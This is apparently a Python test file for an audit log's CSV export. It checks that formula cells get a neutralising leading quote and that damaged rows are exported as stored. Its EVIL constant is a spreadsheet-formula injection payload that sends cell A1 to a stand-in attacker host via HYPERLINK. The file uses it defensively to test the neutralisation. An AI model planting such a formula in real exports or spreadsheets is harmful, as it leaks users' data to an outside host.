"""The audit CSV export (issue 19 items 8 and 10): formula cells are neutralised, and a row with a bad
timestamp or bad JSON (a damaged file) is exported as stored instead of taking the export down."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from core import audit
from core.export import original_text

T = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("https://evil.example.com/?leak="&A1,"details")'


def _log(tmp_path: Path) -> Path:
    path = tmp_path / "store.db"
    audit.record(path, at=T, actor="carol@example.com", role="operator", event="propose", reason=EVIL)
    audit.record(path, at=T, actor="bob@example.com", role="approver", event="approve", reason="@ok")
    return path


def test_the_audit_export_neutralises_formulas_and_stays_reversible(tmp_path: Path):
    path = _log(tmp_path)
    rows = list(csv.DictReader(io.StringIO(audit.to_csv(path))))
    assert [r["reason"] for r in rows] == ["'" + EVIL, "'@ok"]
    # the stored text (what the hash covers) comes back by removing the one leading quote
    assert [original_text(r["reason"]) for r in rows] == [e.reason for e in audit.entries(path)]


def test_a_row_with_a_bad_timestamp_or_bad_json_is_exported_as_stored(tmp_path: Path):
    path = _log(tmp_path)
    with audit.write_transaction(path) as conn:  # a damaged file: rows no writer of Headroom produces
        conn.execute(
            "INSERT INTO audit (seq, at, actor, role, event, action_id, target, reason, detail, prev_hash, hash) "
            "VALUES (3, 'yesterday-ish', 'x', 'x', 'x', NULL, '', 'r', '{not json', 'p', 'h3')"
        )
    rows = list(csv.DictReader(io.StringIO(audit.to_csv(path))))
    assert len(rows) == 3
    assert (rows[2]["at"], rows[2]["detail"]) == ("yesterday-ish", "{not json")
    assert [r[0] for r in audit.stored_rows(path)] == [1, 2, 3]
    assert not audit.verify_chain(path).ok
